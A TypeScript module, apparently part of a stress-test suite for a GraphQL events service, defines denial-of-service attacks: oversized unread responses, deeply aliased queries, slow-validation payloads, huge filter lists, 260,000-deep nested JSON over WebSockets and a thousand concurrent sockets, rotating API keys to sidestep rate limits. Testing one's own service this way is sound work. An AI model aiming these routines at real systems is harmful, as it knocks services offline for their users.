import { once } from 'node:events'
import { setTimeout as delay } from 'node:timers/promises'
import WebSocket from 'ws'
import { postText, sendUnread } from '../raw-http.ts'
import { slowText } from '../slow-schema.ts'
import { type Attack, type AttackTarget, onConnections, postOperation, SLOW_TYPE } from './attack.ts'

const MANY = `mutation ($input: EventPublishManyInput!) { eventPublishMany(input: $input) {
  ... on EventPublishManyPayload { events { id } } ... on Error { code message } } }`

const aliases = (count: number, field: string) => Array.from({ length: count }, (_, n) => `a${n}: ${field}`).join(' ')

/** Keys in turn, so that the rate limit of one key does not end an attack. */
function keysInTurn({ keys }: AttackTarget): () => string {
  let next = 0
  return () => keys[next++ % keys.length]!
}

/** Answers of almost the largest size on six connections that read nothing. */
export const unreadAnswers: Attack = (target, count) => {
  const query = `{ events(last: 5) { nodes { ${aliases(8, 'data')} } } }`
  const nextKey = keysInTurn(target)
  return onConnections(6, async () => {
    const socket = await sendUnread(target.url, postText({ query }, { authorization: `Bearer ${nextKey()}` }))
    count('unread')
    await delay(1_000)
    socket.destroy()
  })
}

/** One statement for each of 24,000 pages, and as many pages as an operation may have. */
export const nestedReads: Attack = (target, count) => {
  const attempts = (pages: number) =>
    `{ deliveries(first: 100) { nodes { ${aliases(pages, 'attempts(first: 1) { nodes { number } }')} } } }`
  const queries = [attempts(240), attempts(9)]
  const nextKey = keysInTurn(target)
  return onConnections(4, async (connection) =>
    count(await postOperation(target.url, nextKey(), queries[connection % 2]!)),
  )
}

/** Eight events a request whose check is as slow as it can be. */
export const slowPatterns: Attack = (target, count) => {
  const events = Array.from({ length: 8 }, () => ({ type: SLOW_TYPE, data: slowText }))
  const nextKey = keysInTurn(target)
  return onConnections(4, async () => count(await postOperation(target.url, nextKey(), MANY, { input: { events } })))
}

/** Filters of 200,000 event types. */
export const longLists: Attack = (target, count) => {
  const types = Array.from({ length: 200_000 }, (_, n) => `a.${n}`)
  const queries = [
    'query ($types: [String!]) { events(types: $types) { nodes { id } } }',
    'query ($types: [String!]) { deliveries(filter: { types: $types }) { nodes { id } } }',
  ]
  const nextKey = keysInTurn(target)
  return onConnections(4, async (connection) =>
    count(await postOperation(target.url, nextKey(), queries[connection % 2]!, { types })),
  )
}

async function connect({ url }: AttackTarget, key: string): Promise<WebSocket> {
  const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, ['graphql-transport-ws'])
  await once(socket, 'open')
  socket.on('error', () => {})
  socket.send(JSON.stringify({ type: 'connection_init', payload: { authorization: `Bearer ${key}` } }))
  return socket
}

/** Messages of 260,000 nested lists on two WebSockets. */
export const nestedMessages: Attack = (target, count) => {
  const query = 'mutation ($data: JSON!) { eventPublish(input: { type: "a.b", data: $data }) { __typename } }'
  const nested = `${'['.repeat(260_000)}${']'.repeat(260_000)}`
  const message = `{"id":"1","type":"subscribe","payload":{"query":${JSON.stringify(query)},"variables":{"data":${nested}}}}`
  const nextKey = keysInTurn(target)
  return onConnections(2, async () => {
    const socket = await connect(target, nextKey())
    while (socket.readyState === socket.OPEN) {
      const [answer] = await Promise.race([once(socket, 'message'), once(socket, 'close')])
      count(typeof answer === 'number' ? `closed with ${answer}` : JSON.parse(String(answer)).type)
      if (socket.readyState === socket.OPEN) socket.send(message)
    }
  })
}

/** 1,000 WebSockets of one organization, each opened anew when it ends. */
export const manySockets: Attack = (target, count) => {
  const nextKey = keysInTurn(target)
  return onConnections(1_000, async () => {
    const socket = await connect(target, nextKey())
    const [answer] = await Promise.race([once(socket, 'message'), once(socket, 'close')])
    count(typeof answer === 'number' ? `closed with ${answer}` : JSON.parse(String(answer)).type)
    if (socket.readyState === socket.OPEN) await once(socket, 'close')
  })
}
